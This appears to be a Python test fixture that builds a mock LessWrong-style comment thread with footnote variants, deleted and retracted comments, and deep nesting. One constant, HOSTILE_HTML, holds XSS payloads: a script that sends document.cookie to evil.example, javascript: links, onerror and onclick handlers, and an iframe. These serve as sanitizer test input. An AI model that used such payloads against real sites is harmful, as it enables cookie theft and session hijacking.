"""A ForumMagnum comment thread in the API's shape: 34 comments, nested 8 deep, with deleted,
retracted, HTML-only and hostile comments and each footnote form the forums produce."""
from __future__ import annotations

import copy

ESSAY_FIRST = "The margin is where a reader answers the page, one pencilled line at a time."
ESSAY_SECOND = "A second paragraph talks about glosses that outgrew the text they surrounded."
POST = "https://www.lesswrong.com/posts/AbCdEf12345/margins"

CKEDITOR_FOOTNOTE_HTML = (
    '<p>Marginalia predate print.<span class="footnote-reference" data-footnote-reference="" data-footnote-index="1" '
    'data-footnote-id="k3x9" role="doc-noteref" id="fnrefk3x9"><sup><a href="#fnk3x9">[1]</a></sup></span></p>'
    '<ol class="footnote-section footnotes" data-footnote-section="" role="doc-endnotes">'
    '<li class="footnote-item" data-footnote-item="" data-footnote-index="1" data-footnote-id="k3x9" role="doc-endnote" id="fnk3x9">'
    '<span class="footnote-back-link" data-footnote-back-link="" data-footnote-id="k3x9"><sup><strong><a href="#fnrefk3x9">^</a></strong></sup></span>'
    '<div class="footnote-content" data-footnote-content="" data-footnote-id="k3x9"><p>Glossed manuscripts are older still.</p></div></li></ol>'
)
MARKDOWN_IT_FOOTNOTE_HTML = (
    '<p>Printers left room on purpose<sup class="footnote-ref"><a href="#fn1" id="fnref1">[1]</a></sup>.</p>'
    '<hr class="footnotes-sep"><section class="footnotes"><ol class="footnotes-list">'
    '<li id="fn1" class="footnote-item"><p>Wide outer margins cost paper. <a href="#fnref1" class="footnote-backref">↩︎</a></p></li></ol></section>'
)
TURNDOWN_CKEDITOR_MARKDOWN = (
    "The catalogue disagrees.^[\\[1\\]](#fnq7w2e)^\n\n"
    "1.  ^**[^](#fnrefq7w2e)**^\n    \n    Its entry was rewritten in 1931.\n"
)
BARE_CARET_MARKDOWN = (
    "Two notes here.[1] And here.[2]\n\n"
    "  1. ^\n\n    The first, copied from the page.\n\n"
    "  2. ^\n\n    The second.\n"
)
TURNDOWN_MARKDOWN_IT_MARKDOWN = "Quoted from the flyleaf[\\[1\\]](#fn1).\n\n1.  The flyleaf is blank. [↩︎](#fnref1)\n"
NATIVE_FOOTNOTE_MARKDOWN = "A native note.[^a]\n\n[^a]: Written in the Markdown editor.\n"
HOSTILE_HTML = (
    '<p onclick="steal()">Nice essay <script>document.location="https://evil.example/?"+document.cookie</script>'
    '<a href="javascript:alert(1)">click me</a> <img src="https://evil.example/pixel.gif" onerror="alert(2)" alt="pixel">'
    '<iframe src="https://evil.example/"></iframe><style>body{display:none}</style>'
    'write to me at someone@example.com</p><h1>Shouting</h1>'
)


def comment(ident, parent=None, *, day=1, minute=0, score=3, agreement=1, markdown=None, html=None, user="Reader",
            slug=None, deleted=False, retracted=False):
    return {
        "_id": ident,
        "parentCommentId": parent,
        "postedAt": f"2026-02-{day:02d}T10:{minute:02d}:00.000Z",
        "baseScore": score,
        "extendedScore": None if agreement is None else {"agreement": agreement, "approvalVoteCount": 4},
        "user": None if user is None else {"displayName": user, "slug": slug or user.lower().replace(" ", "-")},
        "contents": None if markdown is None and html is None else {"markdown": markdown},
        "htmlBody": html if html is not None else (f"<p>{markdown}</p>" if markdown else None),
        "deleted": deleted,
        "retracted": retracted,
        "pageUrl": f"{POST}?commentId={ident}",
    }


def thread() -> list[dict]:
    """34 comments, as the `results` list of a `comments` query."""
    items = [
        comment("c01aaaaaaaaaaaaaa", markdown=f"> {ESSAY_FIRST}\n\nThis is where I disagree.", user="Ann Author", score=12, agreement=4),
        comment("c02aaaaaaaaaaaaaa", markdown=f"> {ESSAY_FIRST}\n>\n> {ESSAY_SECOND}\n\nBoth paragraphs, yes.", user="Ben", day=2),
        comment("c03aaaaaaaaaaaaaa", markdown=None, html=CKEDITOR_FOOTNOTE_HTML, user="Cat", day=3),
        comment("c04aaaaaaaaaaaaaa", markdown=None, html=MARKDOWN_IT_FOOTNOTE_HTML, user="Dan", day=3, minute=5),
        comment("c05aaaaaaaaaaaaaa", markdown=TURNDOWN_CKEDITOR_MARKDOWN, user="Eve", day=4),
        comment("c06aaaaaaaaaaaaaa", markdown=BARE_CARET_MARKDOWN, user="Fay", day=4, minute=5),
        comment("c07aaaaaaaaaaaaaa", markdown=TURNDOWN_MARKDOWN_IT_MARKDOWN, user="Gus", day=4, minute=10),
        comment("c08aaaaaaaaaaaaaa", markdown=NATIVE_FOOTNOTE_MARKDOWN, user="Hal", day=4, minute=15),
        comment("c09aaaaaaaaaaaaaa", markdown=None, html=HOSTILE_HTML, user="Mallory", day=5),
        comment("c10aaaaaaaaaaaaaa", markdown="I take it back.", user="Ivy", day=5, minute=5, retracted=True, score=-2, agreement=-3),
        comment("c11aaaaaaaaaaaaaa", markdown="Gone, but answered.", day=6, deleted=True),
        comment("c12aaaaaaaaaaaaaa", "c11aaaaaaaaaaaaaa", markdown="Answering the deleted one.", user="Jo", day=6, minute=5),
        comment("c13aaaaaaaaaaaaaa", markdown="Gone and alone.", day=6, minute=10, deleted=True),
        comment("c14aaaaaaaaaaaaaa", markdown="My account is gone but I am not.", user=None, day=7),
        comment("c15aaaaaaaaaaaaaa", markdown="> The margin belongs to the binder before it belongs to the reader.\n\nFrom an older draft.",
                user="Kit", day=7, minute=5),
    ]
    # A chain eight deep under the first comment, each quoting a bit of its parent.
    parent = "c01aaaaaaaaaaaaaa"
    for depth in range(8):
        ident = f"d{depth:02d}aaaaaaaaaaaaaa"
        items.append(comment(ident, parent, markdown=f"Depth {depth}: a point about marginal gloss number {depth}.", user=f"Nester {depth}",
                             day=8, minute=depth))
        parent = ident
    # Eleven more replies spread around, for a thread of 34.
    for number in range(11):
        items.append(comment(f"e{number:02d}aaaaaaaaaaaaaa", "c02aaaaaaaaaaaaaa" if number % 2 else None,
                             markdown=f"Reply number {number} about the margins.", user=f"Reader {number}", day=9, minute=number))
    return items


def response(comments: list[dict]) -> dict:
    return {"data": {"comments": {"results": copy.deepcopy(comments)}}}
